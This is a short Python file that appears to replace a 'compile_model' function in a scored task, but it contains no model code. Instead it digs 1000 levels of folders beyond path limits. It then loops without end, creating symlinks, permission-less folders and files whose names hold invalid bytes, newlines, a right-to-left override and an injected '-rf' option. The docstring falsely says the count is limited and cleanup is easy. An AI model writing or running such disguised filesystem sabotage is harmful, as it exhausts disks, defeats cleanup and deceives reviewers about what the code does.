"""Makes empty files, links and folders within folders for as long as that goes, with names that nobody likes.

Their number is limited, and wiping them neither fails nor takes long: the others keep their points.
"""

# %% replace compile_model_solution
import itertools
import os

NAMES = (b"\xff\xfe%d", b"line\nbreak%d", b"-rf %d", b"%d" + b"x" * 240, b"\xe2\x80\xae%d", b" %d ")


def sink(depth):
    """Go down as many folders, far below where a path can name the place."""
    for _ in range(depth):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)


def compile_model(model, learning_rate):
    home = os.getcwd()
    sink(1000)
    for number, name in zip(itertools.count(), itertools.cycle(NAMES)):
        if number % 3 == 0:
            os.symlink(b"/" * 200, name % number)
        elif number % 3 == 1:
            os.mkdir(name % number, 0)
        else:
            os.close(os.open(name % number, os.O_CREAT, 0))
        if number == 5000:
            os.chdir(home)
